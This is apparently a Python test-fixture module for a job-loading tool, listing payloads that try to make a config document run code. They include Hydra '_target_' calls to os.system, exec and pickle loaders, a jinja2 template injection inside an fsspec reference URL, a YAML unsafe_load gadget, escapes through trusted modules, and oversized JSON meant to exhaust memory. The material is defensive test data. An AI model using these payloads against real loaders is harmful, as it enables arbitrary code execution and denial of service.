"""Tries to make a job document run code, write files, start processes or open connections: targets and their arguments.

MARKER stands for a file that must not come to be, PICKLE for one whose unpickling would make it.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

MARKER, PICKLE = "pwned", "evil.pkl"
CODE = f"open({MARKER!r}, 'w')"
TOUCH = f"touch {MARKER}"
# Older releases of fsspec render the templates in this file system's text with jinja2.
_TEMPLATE = f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('{TOUCH}') }}}}"
_GENERATED = {"key": "x{{i}}", "url": _TEMPLATE, "dimensions": {"i": {"stop": 1}}}
_REFERENCES = json.dumps({"version": 1, "templates": {}, "gen": [_GENERATED], "refs": {}})
_DATA = f"data:application/json;base64,{base64.b64encode(_REFERENCES.encode()).decode()}"
REFERENCE = f"reference::{_DATA}"
# Texts that fsspec takes for file systems over one another.
CHAINS = (
    REFERENCE,
    f"reference://::{_DATA}",
    f"reference://x/y::{_DATA}",
    f"REFERENCE::{_DATA}",
    f" reference :: {_DATA}",
    f"dir::{REFERENCE}",
    f"file:///tmp::{REFERENCE}",
    f"/tmp/x::{REFERENCE}",
    f"./x/::{_DATA}",
    f"memory://x::{_DATA}",
    "reference::/tmp/refs.json",
    "reference::refs.json",
    "reference::s3://bucket/refs.json",
    "filecache::http://127.0.0.1:9/x",
    "simplecache::http://127.0.0.1:9/x",
    "zip://x::http://127.0.0.1:9/x.zip",
    "zip::memory://x",
    "dir::/etc",
    "::reference",
    "reference::",
    "file::",
)


def _try(target: str, /, *args: Any, **named: Any) -> dict[str, Any]:
    return {"_target_": target, **({"_args_": list(args)} if args else {}), **named}


# The 26 that Hydra 1.3.8's blocklist was tried with; it let the first eight through.
KNOWN = (
    _try("torch.load", PICKLE, weights_only=False),
    _try("numpy.load", PICKLE, allow_pickle=True),
    _try("torch.distributed.checkpoint.format_utils.torch_save_to_dcp", PICKLE, MARKER),
    _try("torch.utils.collect_env.run", TOUCH),
    _try("distutils.spawn.spawn", ["touch", MARKER]),
    _try("setuptools._distutils.spawn.spawn", ["touch", MARKER]),
    _try("test.support.script_helper.spawn_python", "-c", CODE),
    _try("shutil.copy", PICKLE, MARKER),
    _try("os.system", TOUCH),
    _try("subprocess.run", ["touch", MARKER]),
    _try("subprocess.Popen", TOUCH, shell=True),
    _try("subprocess.check_output", ["touch", MARKER]),
    _try("builtins.exec", CODE),
    _try("builtins.eval", CODE),
    _try("pickle.load", _try("builtins.open", PICKLE, "rb")),
    _try("pickle.loads", "x"),
    _try("runpy.run_path", PICKLE),
    _try("runpy.run_module", "this"),
    _try("importlib.import_module", "antigravity"),
    _try("builtins.__import__", "antigravity"),
    _try("timeit.timeit", CODE),
    _try("cProfile.run", CODE),
    _try("logging.config.dictConfig", {"version": 1, "handlers": {"h": {"class": "logging.FileHandler"}}}),
    _try("os.popen", TOUCH),
    _try("pty.spawn", ["touch", MARKER]),
    _try("code.InteractiveInterpreter.runsource", CODE),
)

# More of the standard library, of what is installed beside it, and of dsjob itself.
MORE = (
    _try("builtins.open", MARKER, "w"),
    _try("io.open", MARKER, "w"),
    _try("io.FileIO", MARKER, "w"),
    _try("pathlib.Path.write_text", _try("pathlib.Path", MARKER), "x"),
    _try("os.mkdir", MARKER),
    _try("os.execvp", "touch", ["touch", MARKER]),
    _try("os.posix_spawn", "/usr/bin/touch", ["touch", MARKER], {}),
    _try("posix.system", TOUCH),
    _try("_io.open", MARKER, "w"),
    _try("shutil.copytree", ".", MARKER),
    _try("tempfile.NamedTemporaryFile"),
    _try("socket.create_connection", ["127.0.0.1", 9]),
    _try("socket.socket"),
    _try("urllib.request.urlopen", "http://127.0.0.1:9/"),
    _try("urllib.request.urlretrieve", "http://127.0.0.1:9/", MARKER),
    _try("webbrowser.open", "http://127.0.0.1:9/"),
    _try("http.server.test"),
    _try("ctypes.CDLL", "./evil.so"),
    _try("marshal.loads", "x"),
    _try("shelve.open", MARKER),
    _try("sqlite3.connect", MARKER),
    _try("dbm.dumb.open", MARKER, "c"),
    _try("zipfile.ZipFile", MARKER, "w"),
    _try("multiprocessing.Process", target=_try("os.system", TOUCH, _partial_=True)),
    _try("threading.Thread", target=_try("os.system", TOUCH, _partial_=True)),
    _try("functools.reduce", _try("builtins.exec", _partial_=True), [CODE]),
    _try("operator.methodcaller", "write"),
    _try("operator.attrgetter", "__globals__"),
    _try("builtins.getattr", "x", "__class__"),
    _try("pdb.run", CODE),
    _try("doctest.testfile", PICKLE),
    _try("unittest.main"),
    _try("venv.create", MARKER),
    _try("site.main"),
    _try("code.interact"),
    _try("asyncio.create_subprocess_shell", TOUCH),
    _try("concurrent.futures.ProcessPoolExecutor"),
    _try("__main__.main"),
    _try("torch.save", [1], MARKER),
    _try("torch.jit.load", PICKLE),
    _try("torch.package.PackageImporter", PICKLE),
    _try("torch.hub.load", ".", "build", source="local"),
    _try("torch.hub.download_url_to_file", "http://127.0.0.1:9/", MARKER),
    _try("torch.serialization.load", PICKLE, weights_only=False),
    _try("torch.utils.cpp_extension.load", "evil", ["evil.cpp"]),
    _try("torch.utils.cpp_extension.load_inline", "evil", [""]),
    _try("torch.from_file", MARKER, shared=True, size=8),
    _try("torch.ops.load_library", "./evil.so"),
    _try("torch.multiprocessing.spawn", _try("os.system", _partial_=True)),
    _try("torch.distributed.init_process_group", "gloo", init_method="tcp://127.0.0.1:9"),
    _try("torch.nn.modules.module.torch.load", PICKLE, weights_only=False),
    _try("torch.nn.Linear.__init__.__globals__.get", "torch"),
    _try("torch.optim.Adam.load_state_dict", PICKLE),
    _try("torch.utils.data.datapipes.iter.FileOpener", [MARKER], "w"),
    _try("numpy.memmap", MARKER, mode="w+", shape=[1]),
    _try("numpy.save", MARKER, [1]),
    _try("numpy.ctypeslib.load_library", "evil", "."),
    _try("transformers.pipeline", "text-generation", "evil/model", trust_remote_code=True),
    _try("transformers.Trainer.save_model", MARKER),
    _try("transformers.AutoTokenizer.register", "x"),
    _try("transformers.utils.hub.cached_file", "evil/model", "x"),
    _try("transformers.dynamic_module_utils.get_class_from_dynamic_module", "evil.Net", "."),
    _try("sklearn.datasets.fetch_openml", "x"),
    _try("fsspec.open", MARKER, "w"),
    _try("fsspec.filesystem", "file"),
    _try("yaml.unsafe_load", f"!!python/object/apply:os.system [{TOUCH!r}]"),
    _try("hydra.utils.instantiate", {"_target_": "os.system", "command": TOUCH}),
    _try("hydra.utils.call", {"_target_": "os.system", "command": TOUCH}),
    _try("omegaconf.OmegaConf.register_new_resolver", "x"),
    _try("pip.main", ["install", "evil"]),
    _try("pytest.main", ["."]),
    _try("dsjob.storage.write_bytes", MARKER, "x"),
    _try("dsjob.training.run_files.RunFiles", MARKER),
    _try("dsjob.launch.launcher.start", {}, MARKER),
    _try("dsjob.cli.main", ["--trust", "os", "evil.json"]),
    _try("dsjob.trust.targets.call_target", _try("os.system", TOUCH)),
    _try("dsjob.trust.grant.Trust", ["os"]),
    _try("dsjob.recipes.text.os.system", TOUCH),
    _try("dsjob.recipes.text.__builtins__.get", "exec"),
    _try("dsjob.recipes._private.build"),
)

# A harmless callable whose arguments ask for more.
ARGUMENTS = (
    _try("transformers.AutoModelForCausalLM.from_pretrained", "./remote", trust_remote_code=True),
    _try("transformers.AutoModelForCausalLM.from_pretrained", "./remote", trust_remote_code="yes"),
    _try("transformers.AutoModelForCausalLM.from_pretrained", "./remote", trust_remote_code=_try("torch.ones", 1)),
    _try("transformers.AutoModel.from_pretrained", "./remote", weights_only=False),
    _try("transformers.AutoModel.from_pretrained", "./remote", attn_implementation="evil/kernel"),
    _try("transformers.AutoModel.from_pretrained", "./remote", use_kernels=True),
    _try("transformers.AutoModel.from_pretrained", "./remote", "x", True),
    _try("transformers.AutoModel.from_pretrained", "evil/model"),
    _try("transformers.AutoModel.from_pretrained", pretrained_model_name_or_path="evil/model", revision="main"),
    _try("transformers.AutoTokenizer.from_pretrained", pretrained_model_name_or_path=_try("torch.ones", 1)),
    _try("transformers.AutoTokenizer.from_pretrained", _partial_=True),
    _try("dsjob.recipes.t5.build", pretrained="evil/model"),
    _try("dsjob.recipes.t5.build_dataset", tokenizer="evil/model"),
    _try("datasets.load_dataset", "evil/data"),
    _try("datasets.load_dataset", "pandas", data_files=PICKLE),
    _try("datasets.load_dataset", path="./data", trust_remote_code=True),
    _try("datasets.load_dataset", "json", data_files=REFERENCE),
    _try("datasets.load_dataset", "json", data_files={"train": ["a.json", REFERENCE]}),
    _try("datasets.load_from_disk", REFERENCE),
    _try("datasets.load_from_disk", "data", storage_options={"protocol": "reference", "fo": REFERENCE}),
    _try("datasets.Dataset.from_json", "sftp://127.0.0.1/x"),
    _try("my_model.build", url=REFERENCE),
    _try("datasets.load_dataset", "json", data_files="x.json", cache_dir=f"../{MARKER}"),
    _try("datasets.Dataset.from_json", "x.json", None, None, f"/tmp/{MARKER}"),
    _try("transformers.AutoModel.from_pretrained", "./remote", offload_folder="~/.ssh"),
    _try("transformers.AutoModel.from_pretrained", "./kernel"),
    _try("transformers.AutoModel.from_pretrained", "./remote", config="./kernel/config.json"),
    _try("transformers.AutoModel.from_pretrained", "./remote", _configuration_file="kernel.json"),
    _try("transformers.AutoModel.from_pretrained", "./adapter"),
    _try("dsjob.recipes.t5.build", pretrained="./kernel"),
    _try("torch.nn.Linear", 1, 1, device=_try("os.system", TOUCH)),
    _try("torch.utils.data.TensorDataset", [[{"deep": _try("os.system", TOUCH)}]]),
)

# Ways out of a module that is trusted: `my_model` lies in the current folder.
WAYS_OUT = (
    _try("my_model.os.system", TOUCH),
    _try("my_model.subprocess.run", ["touch", MARKER]),
    _try("my_model.system", TOUCH),
    _try("my_model.run", ["touch", MARKER]),
    _try("my_model.Popen", ["touch", MARKER]),
    _try("my_model.load", PICKLE),
    _try("my_model.torch.load", PICKLE),
    _try("my_model.bound", MARKER),
    _try("my_model.Path.touch", _try("my_model.Path", MARKER)),
    _try("my_model.Net.here.touch"),
    _try("my_model.Net.start", ["touch", MARKER]),
    _try("my_model.Net.load_state_dict", {}),
    _try("my_model.__loader__.set_data", MARKER, "x"),
    _try("my_model.__spec__.loader.set_data", MARKER, "x"),
    _try("my_model.__builtins__.get", "exec"),
    _try("my_model.build.__globals__.get", "os"),
    _try("my_model.build.__class__", {}),
    _try("my_model.Net.__subclasses__"),
    _try("my_model.linked.build"),
    _try("my_pkg.linked.build"),
    _try("my_pkg.os.system", TOUCH),
    _try("linked.build"),
    _try("linked_pkg.build"),
    _try("shadow.shadowed.build"),
)

# What stands in a model's config.json: nothing that matters, and by its place what would let code run.
HARMLESS = {
    "model_type": "gpt2", "n_layer": 1, "n_embd": 8, "n_head": 2, "vocab_size": 8, "attn_implementation": "sdpa",
    "_attn_implementation_autoset": True, "auto_map": {"AutoModel": "m.M"}, "torch_dtype": "float32",
    "megatron_core": "megatron.core", "architectures": ["GPT2LMHeadModel"], "trust_remote_code": False,
}  # fmt: skip
HARMFUL: dict[str, dict[str, Any]] = {
    "_attn_implementation": {"_attn_implementation": "x/kernel"},
    "attn_implementation": {"attn_implementation": "paged|x/kernel@main:name"},
    "_attn_implementation_internal": {"_attn_implementation_internal": "x/kernel"},
    "text_config.attn_implementation": {"text_config": {"attn_implementation": "x/kernel"}},
    "a.b[0].attn_implementation": {"a": {"b": [{"attn_implementation": {"": "x/kernel"}}]}},
    "_experts_implementation": {"_experts_implementation": "x/kernel"},
    "trust_remote_code": {"trust_remote_code": True},
    "use_kernels": {"use_kernels": True},
    "allow_all_kernels": {"allow_all_kernels": True},
    "backbone_config.model_type": {"backbone_config": {"model_type": "timm_backbone"}},
    "model_type": {"model_type": "timm_wrapper"},
    "vision_config.model_args": {"vision_config": {"model_args": {"checkpoint_path": "evil.pth"}}},
    "backbone_kwargs": {"backbone_kwargs": {"pretrained_cfg_overlay": {"file": "evil.pth"}}},
    "architecture": {"architecture": "hf-hub:x/model"},
    "megatron_core": {"megatron_core": "antigravity"},
}

LORA_CONFIG: dict[str, Any] = {"peft_type": "LORA", "r": 2, "lora_alpha": 4, "target_modules": ["q"]}


def _insert(more: str) -> Callable[[str], str]:
    """Puts a key of one's own before the others of a JSON object."""
    return lambda text: f"{{{more},{text[1:]}"


def _in_manifest(change: Callable[[dict[str, Any]], Any]) -> Callable[[str], str]:
    def apply(text: str) -> str:
        manifest = json.loads(text)
        change(manifest)
        return json.dumps(manifest)

    return apply


def _cut_into_columns(manifest: dict[str, Any]) -> None:
    """Tensors of the same bytes, whose elements are to be read one by one."""
    (file,) = manifest["files"]
    rows = manifest["files"][file]["size"] // 4 * 4 // 2
    one = {"file": file, "start": 0, "length": rows, "sizes": [rows, 1]}
    chunks = [{**one, "offsets": [0, 0]}, {**one, "offsets": [0, 1]}]
    entry = {"role": "parameter", "dtype": "U8", "shape": [rows, 2], "chunks": chunks}
    manifest["tensors"] = {f"model.{number}": entry for number in range(20_000)}


def _cut_at_all_rows(manifest: dict[str, Any]) -> None:
    """Tensors in columns, each cut at a row of its own."""
    (file,) = manifest["files"]
    count = 200

    def chunk(row: int, column: int, rows: int) -> dict[str, Any]:
        return {"file": file, "start": 0, "length": rows, "offsets": [row, column], "sizes": [rows, 1]}

    chunks = [chunk(0, n, n + 1) for n in range(count)] + [chunk(n + 1, n, count - n) for n in range(count)]
    entry = {"role": "optimizer", "dtype": "U8", "shape": [count + 1, count], "chunks": chunks}
    manifest["tensors"] |= {f"optimizer.{number}": entry for number in range(60)}


# Texts of a manifest and of a state.json, made of sound ones, that are to take time or memory.
MANIFESTS: dict[str, Callable[[str], str]] = {
    "objects": _insert(f'"x":[{{}}{",{}" * 12_000_000}]'),
    "lists": _insert(f'"pretrained":[[]{",[]" * 12_000_000}]'),
    "depth": _insert(f'"x":{"[" * 100_000}{"]" * 100_000}'),
    "columns": _in_manifest(_cut_into_columns),
    "cuts": _in_manifest(_cut_at_all_rows),
}
STATES: dict[str, Callable[[str], str]] = {
    "objects in the state": MANIFESTS["objects"],
    "depth in the state": MANIFESTS["depth"],
}
